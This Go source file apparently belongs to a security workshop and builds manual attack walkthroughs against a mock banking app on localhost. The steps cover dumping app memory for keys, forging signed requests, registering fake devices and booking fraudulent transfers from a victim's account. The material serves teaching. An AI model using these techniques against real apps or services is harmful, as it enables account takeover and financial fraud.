@@ -1,0 +1,151 @@
+package byhand
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+
+	"keyladder/stages/catalog"
+)
+
+// step is something that a person does who carries out an attack by hand. Its text may hold
+// what [Steps] fills in.
+type step struct {
+	text string
+	need []func(catalog.Policies) bool // where it is needed; none: everywhere
+}
+
+// Where steps are needed.
+func inTheClear(p catalog.Policies) bool       { return p.Call.Transport == catalog.PlainHTTP }
+func overTLS(p catalog.Policies) bool          { return p.Call.Transport != catalog.PlainHTTP }
+func withCertificates(p catalog.Policies) bool { return p.Call.Transport == catalog.MutualTLS }
+func pinned(p catalog.Policies) bool           { return p.Call.Pins == catalog.Pinned }
+func notPinned(p catalog.Policies) bool        { return p.Call.Pins == catalog.NotPinned }
+func withKeys(p catalog.Policies) bool         { return p.Call.AppProof == catalog.AppKey }
+func signed(p catalog.Policies) bool           { return p.Call.AppProof == catalog.Hawk }
+func keysInURLs(p catalog.Policies) bool       { return p.Call.KeyPlace == catalog.KeyInPublicURLs }
+func noKeysInURLs(p catalog.Policies) bool     { return p.Call.KeyPlace != catalog.KeyInPublicURLs }
+func withDevices(p catalog.Policies) bool      { return p.Call.Devices == catalog.RegisteredDevices }
+func withUsers(p catalog.Policies) bool        { return p.Call.UserProof != catalog.NoUser }
+func withoutUsers(p catalog.Policies) bool     { return p.Call.UserProof == catalog.NoUser }
+func secretsInClear(p catalog.Policies) bool   { return p.Package.Secrets == catalog.ClearSecrets }
+func secretsHidden(p catalog.Policies) bool    { return p.Package.Secrets == catalog.HiddenSecrets }
+
+// walk is one step, or several.
+type walk []step
+
+func steps(parts ...walk) []step { return slices.Concat(parts...) }
+
+func say(text string) walk { return walk{{text: text}} }
+
+// Beside begins a step whose command goes on until the others have been done.
+const Beside = "In a second terminal, "
+
+func beside(text string) walk {
+	return say(Beside + text + " Leave it running.")
+}
+
+// at is the steps where that is so.
+func (w walk) at(need func(catalog.Policies) bool) walk {
+	var needed walk
+	for _, s := range w {
+		s.need = append(slices.Clone(s.need), need)
+		needed = append(needed, s)
+	}
+	return needed
+}
+
+// Steps that attacks share. What is found is in the folder that `stages loot` fills.
+var (
+	theCA      = say("Get the certificate of the CA that every device trusts: `curl -fsSO http://localhost:8000/workshop-ca.pem`.").at(overTLS)
+	thePackage = say("Get the package of the app: `curl -fsSO http://localhost:8000/packages/{package}`.")
+
+	victimPays = slices.Concat(
+		passwordOf("alice"), signIn("alice"),
+		say("Have the victim come by, and pay: `mobileclient --phone alice --stage {stage} --access-point {here} transfer --to HB-2001 --amount 1.00 --reference {attack}`."),
+	)
+
+	hooked = slices.Concat(
+		say("Use the genuine app on your own phone, and write down the memory of its process, as gcore does: `mobileclient --phone mallory --stage {stage} --memory memory.bin accounts`."),
+		say("Search it for the shapes that you know: keys, certificates, requests that were sent: `stages loot memory.bin`."),
+		say("A secret is told by a signed request in the same memory: it is the text there that makes the same MAC.").at(signed),
+	)
+
+	ownDevice = slices.Concat(
+		say("Register a phone that there is not: `{sign} -d '{\"identifier\":\"own-{attack}\"}' {api}/v1/devices | {fetch} -K - > registered.json`."),
+		say("Keep the fields that stand for it: `python3 -c 'import json; print(\"Device-Id: own-{attack}\\nDevice-Guid:\", json.load(open(\"registered.json\"))[\"guid\"])' > own-device.txt`."),
+	).at(withDevices)
+
+	ownSession = slices.Concat(
+		say("Sign in with a program of your own: `{sign} -X POST -u \"mallory:$(cat mallory.txt)\" -H @- {api}/v1/session < loot/device.txt | {fetch} -K - | stages open --secret \"$(cat loot/secret)\" > session.json`."),
+		say("Keep the fields that stand for you: `python3 -c 'import json; print(\"Authorization: Session\", json.load(open(\"session.json\"))[\"session_key\"])' | cat - loot/device.txt > own-session.txt`."),
+	).at(withUsers)
+)
+
+// passwordOf takes a password of the workshop's.
+func passwordOf(user string) walk {
+	return say("Look up the password of " + user + ", who uses the app: `python3 -c 'import json; print(json.load(open(\"{passwords}\"))[\"" + user + "\"])' > " + user + ".txt`.").at(withUsers)
+}
+
+// signIn signs a user in with the genuine app on a phone of their own.
+func signIn(user string) walk {
+	return say("Sign " + user + " in: `mobileclient --phone " + user + " --stage {stage} sign-in --user " + user + " --password-file " + user + ".txt`.").at(withUsers)
+}
+
+// book books a transfer with a program of one's own, with what was found. The file has the
+// fields that say who is calling, where calls are signed with them.
+func book(from, to, fields string) walk {
+	payment := payment(from, to)
+	return slices.Concat(
+		say("Book a transfer with a program of your own: `{curl} {cert} {field} --json '"+payment+"' {api}/v1/transfers`.").at(withKeys),
+		say("Book a transfer with a program of your own: `{sign}{seal} -H @- -d '"+payment+"' {api}/v1/transfers < "+fields+" | {curl} {cert} -K -`.").at(signed),
+	)
+}
+
+func payment(from, to string) string {
+	return fmt.Sprintf(`{"from":%q,"to":%q,"amount":100,"currency":"EUR","reference":"{attack}"}`, from, to)
+}
+
+// Setup is typed first, in each terminal, in the repository's folder.
+const Setup = "go build -o data/bin/ ./stages ./mobileclient && PATH=$PWD/data/bin:$PATH"
+
+// Steps are what a person does who carries out the attack by hand at a stage, in order. What
+// is between backquotes can be typed as it is after [Setup], where `stages up` has started
+// Keyladder on its usual ports.
+func Steps(a catalog.Attack, stage catalog.Stage) []string {
+	api, trust := "https://localhost:8443/", " --cacert workshop-ca.pem"
+	if inTheClear(stage.Policies) {
+		api, trust = "http://localhost:8080/", ""
+	}
+	cert, seal := "", ""
+	if withCertificates(stage.Policies) {
+		cert = " --cert loot/app.pem"
+	}
+	if stage.Call.Bodies == catalog.SealedBodies {
+		seal = " --seal"
+	}
+	agent := fmt.Sprintf(" -A HarbourBank/%d.0", stage.Package.Release)
+	filled := strings.NewReplacer(
+		"{api}", api+stage.Slug,
+		"{curl}", "curl -i"+trust+agent,
+		"{fetch}", "curl -sS"+trust+cert+agent, // for a file
+		" {cert}", cert,
+		" {field}", ` -H "Authorization: key $(cat loot/client-id)"`,
+		"{sign}", `stages sign --secret "$(cat loot/secret)"`,
+		"{seal}", seal,
+		"{rob}", strings.ReplaceAll(payment("HB-1001", "HB-3001"), "{attack}", a.Name),
+		"{attack}", a.Name,
+		"{stage}", stage.Slug,
+		"{package}", fmt.Sprintf("harbour-bank-%d.pkg", stage.Package.Release),
+		"{passwords}", "data/phone/passwords.json",
+		"{storage}", "data/phone/command-line-lost/storage",
+		"{here}", "127.0.0.1:8082",
+	)
+	var steps []string
+	for _, s := range byName[a.Name] {
+		if !slices.ContainsFunc(s.need, func(need func(catalog.Policies) bool) bool { return !need(stage.Policies) }) {
+			steps = append(steps, filled.Replace(s.text))
+		}
+	}
+	return steps
+}
